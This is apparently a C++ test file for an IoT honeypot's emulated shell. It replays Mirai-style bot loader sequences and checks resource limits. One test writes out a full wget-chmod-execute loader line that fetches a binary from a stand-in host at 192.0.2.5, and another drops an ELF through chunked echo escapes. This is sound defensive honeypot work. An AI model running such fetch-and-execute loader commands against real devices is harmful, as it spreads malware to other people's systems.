// Whole loader sequences as IoT bots send them, and the shell's bounds under abuse.

#include <cstdio>

#include <gtest/gtest.h>

#include "honeypot/shell/shell.h"
#include "persona_fixture.h"

namespace kansoku::honeypot::shell {
namespace {

std::string runAll(Shell& shell, const std::vector<std::string>& lines, std::vector<ShellResult>* results = nullptr) {
    std::string output;
    for (const std::string& line : lines) {
        ShellResult r = shell.run(line);
        output += r.output;
        if (results != nullptr) {
            results->push_back(std::move(r));
        }
    }
    return output;
}

TEST(ShellLoaderTest, MiraiTelnetLoader) {
    Shell shell(testing::dvrPersona());
    std::vector<ShellResult> results;
    const std::string output =
        runAll(shell,
               {"enable", "system", "shell", "sh", "/bin/busybox ECCHI", "cat /proc/mounts; /bin/busybox ECCHI",
                "cd /tmp || cd /var/run || cd /mnt; wget http://192.0.2.5/bins/x.arm7 -O x; "
                "chmod 777 x; ./x telnet.arm; rm -rf x"},
               &results);
    ASSERT_EQ(results.size(), 7U);
    EXPECT_EQ(results[0].output, "sh: enable: not found\n");
    EXPECT_EQ(results[1].output, "sh: system: not found\n");
    EXPECT_EQ(results[2].output, "sh: shell: not found\n");
    EXPECT_EQ(results[3].output, "");
    EXPECT_EQ(results[4].output, "ECCHI: applet not found\n");
    EXPECT_EQ(results[5].output, testing::dvrPersona()->files.at("/proc/mounts").content + "ECCHI: applet not found\n");
    const ShellResult& load = results[6];
    ASSERT_EQ(load.downloads.size(), 1U);
    EXPECT_EQ(load.downloads[0].url, "http://192.0.2.5/bins/x.arm7");
    EXPECT_EQ(load.downloads[0].tool, "wget");
    EXPECT_EQ(load.downloads[0].output_path, "/tmp/x");
    ASSERT_EQ(load.executions.size(), 1U);
    EXPECT_EQ(load.executions[0].path, "/tmp/x");
    EXPECT_EQ(load.executions[0].argv, (std::vector<std::string>{"./x", "telnet.arm"}));
    EXPECT_EQ(load.output.find("not found"), std::string::npos) << load.output;
    EXPECT_EQ(load.status, 0);
    EXPECT_FALSE(shell.filesystem().stat("/tmp/x")); // rm -rf x
    ASSERT_EQ(load.commands.size(), 5U);             // cd, wget, chmod, ./x, rm (the other cds were skipped)
    EXPECT_EQ(load.commands[0].argv, (std::vector<std::string>{"cd", "/tmp"}));
    EXPECT_EQ(shell.cwd(), "/tmp");
}

/// A small ARM EABI5 ELF: the 52-byte header of the DVR persona's CPU plus a few code bytes.
std::string smallArmElf() {
    std::string elf = testing::dvrPersona()->busybox_elf.substr(0, 52);
    elf += std::string("\x00\x00\xa0\xe3\x01\x70\xa0\xe3\x00\x00\x00\xef\x0a\x00\x5c\x00", 16);
    return elf;
}

std::string hexEscaped(std::string_view bytes) {
    std::string out;
    char buf[8];
    for (const char c : bytes) {
        std::snprintf(buf, sizeof buf, "\\x%02x", static_cast<unsigned char>(c));
        out += buf;
    }
    return out;
}

std::string octalEscaped(std::string_view bytes) {
    std::string out;
    char buf[8];
    for (const char c : bytes) {
        std::snprintf(buf, sizeof buf, "\\0%03o", static_cast<unsigned char>(c));
        out += buf;
    }
    return out;
}

TEST(ShellLoaderTest, EchoLoaderWritesAnElfInChunks) {
    Shell shell(testing::dvrPersona());
    const std::string elf = smallArmElf();
    std::vector<std::string> lines = {"cd /tmp; /bin/busybox cp /bin/echo dvrHelper; >dvrHelper; "
                                      "/bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI"};
    // Mirai writes 128-byte chunks with '>>'; here 20-byte chunks, alternating hex and octal escapes.
    for (size_t offset = 0, n = 0; offset < elf.size(); offset += 20, ++n) {
        const std::string chunk = elf.substr(offset, 20);
        lines.push_back("echo -ne '" + (n % 2 == 0 ? hexEscaped(chunk) : octalEscaped(chunk)) +
                        "' >> dvrHelper; /bin/busybox ECCHI");
    }
    lines.push_back("./dvrHelper telnet.arm.echo; /bin/busybox IHCCE");
    std::vector<ShellResult> results;
    runAll(shell, lines, &results);
    EXPECT_EQ(results.front().output, "ECCHI: applet not found\n");
    EXPECT_TRUE(results.front().files_written.empty()) << "the copy of echo was truncated at once";
    // Every chunk run reports the file so far; the last chunk's report is the whole binary.
    const ShellResult& last_chunk = results[results.size() - 2];
    ASSERT_EQ(last_chunk.files_written.size(), 1U);
    EXPECT_EQ(last_chunk.files_written[0].path, "/tmp/dvrHelper");
    EXPECT_EQ(last_chunk.files_written[0].content, elf);
    EXPECT_EQ(last_chunk.output, "ECCHI: applet not found\n");
    EXPECT_EQ(*shell.filesystem().read("/tmp/dvrHelper"), elf);
    // It is the persona's CPU, so it "runs" quietly; the attempt is recorded, nothing is executed.
    const ShellResult& run = results.back();
    EXPECT_EQ(run.output, "IHCCE: applet not found\n");
    ASSERT_EQ(run.executions.size(), 1U);
    EXPECT_EQ(run.executions[0].path, "/tmp/dvrHelper");
    EXPECT_EQ(run.executions[0].argv[1], "telnet.arm.echo");
}

TEST(ShellLoaderTest, AnElfForAnotherCpuDoesNotRun) {
    Shell router(testing::routerPersona()); // MIPS big-endian
    const ShellResult r =
        router.run("cd /tmp; echo -ne '" + hexEscaped(smallArmElf()) + "' > a; chmod +x a; ./a; echo $?");
    EXPECT_EQ(r.output, "-sh: ./a: Exec format error\n126\n");
    EXPECT_EQ(r.executions.size(), 1U);
    EXPECT_EQ(router.run("./missing").output, "-sh: ./missing: not found\n");
    router.run("echo x > /tmp/plain");
    EXPECT_EQ(router.run("/tmp/plain").output, "-sh: /tmp/plain: Permission denied\n");
}

TEST(ShellLoaderTest, HugeEchoIsBoundedAndCounted) {
    ShellLimits limits;
    limits.fs.max_file_bytes = 4096;
    limits.fs.max_total_bytes = 6000;
    Shell shell(testing::routerPersona(), limits);
    // A line longer than max_line_bytes is cut.
    const ShellResult cut = shell.run("echo " + std::string(100 << 10, 'A'));
    EXPECT_EQ(cut.limits.get(ShellLimit::LineBytes), 1U);
    EXPECT_LE(cut.output.size(), limits.max_output_bytes);
    // A file stops at max_file_bytes, the overlay at max_total_bytes.
    const ShellResult big = shell.run("cd /tmp; echo " + std::string(10000, 'B') + " > big");
    EXPECT_EQ(big.limits.get(ShellLimit::FileBytes), 1U);
    EXPECT_EQ(shell.filesystem().stat("/tmp/big")->size, 4096U);
    EXPECT_NE(big.output.find("No space left on device"), std::string::npos);
    const ShellResult more = shell.run("echo " + std::string(5000, 'C') + " > more");
    EXPECT_EQ(more.limits.get(ShellLimit::TotalBytes), 1U);
    EXPECT_EQ(shell.filesystem().overlayBytes(), 6000U);
    EXPECT_EQ(shell.limitTotals().get(ShellLimit::FileBytes), 1U);
    EXPECT_EQ(shell.limitTotals().get(ShellLimit::TotalBytes), 1U);
    EXPECT_EQ(shell.limitTotals().get(ShellLimit::LineBytes), 1U);
}

TEST(ShellLoaderTest, ManyFilesAreBoundedAndCounted) {
    ShellLimits limits;
    limits.fs.max_entries = 50;
    Shell shell(testing::routerPersona(), limits);
    std::string line = "cd /tmp";
    for (int i = 0; i < 80; ++i) {
        line += "; echo " + std::to_string(i) + " > f" + std::to_string(i);
    }
    const ShellResult r = shell.run(line);
    EXPECT_EQ(shell.filesystem().overlayEntries(), 50U);
    EXPECT_EQ(r.limits.get(ShellLimit::Files), 30U);
    EXPECT_EQ(r.files_written.size(), 50U);
}

TEST(ShellLoaderTest, DeepPathsAreBoundedAndCounted) {
    Shell shell(testing::routerPersona());
    const size_t limit = FsLimits{}.max_path_length;
    std::string fits = "/tmp";
    while (fits.size() + 2 <= limit) {
        fits += "/d";
    }
    ShellResult r = shell.run("mkdir -p " + fits + " && cd " + fits + " && echo ok");
    EXPECT_EQ(r.output, "ok\n");
    EXPECT_EQ(r.limits.total(), 0U);
    const std::string deep = fits + "/d/d/d";
    r = shell.run("mkdir -p " + deep + "; cd " + deep + "; echo x > " + deep + "/f; echo x > d/d/f");
    EXPECT_EQ(r.limits.get(ShellLimit::PathLength), 4U);
    EXPECT_NE(r.output.find("mkdir: can't create directory '" + deep + "': File name too long"), std::string::npos);
    EXPECT_NE(r.output.find("-sh: can't create d/d/f: File name too long"), std::string::npos);
    EXPECT_EQ(shell.cwd(), fits);
    EXPECT_EQ(shell.limitTotals().get(ShellLimit::PathLength), 4U);
}

TEST(ShellLoaderTest, CommandsAndOutputPerRunAreBounded) {
    ShellLimits limits;
    limits.max_commands_per_run = 10;
    limits.max_output_bytes = 100;
    Shell shell(testing::routerPersona(), limits);
    std::string line;
    for (int i = 0; i < 20; ++i) {
        line += "echo 0123456789;";
    }
    const ShellResult r = shell.run(line);
    EXPECT_EQ(r.commands.size(), 10U);
    EXPECT_EQ(r.limits.get(ShellLimit::Commands), 1U);
    EXPECT_EQ(r.output.size(), 100U);
    EXPECT_EQ(r.limits.get(ShellLimit::OutputBytes), 1U);
    // The next line starts afresh.
    EXPECT_EQ(shell.run("echo ok").output, "ok\n");
}

} // namespace
} // namespace kansoku::honeypot::shell
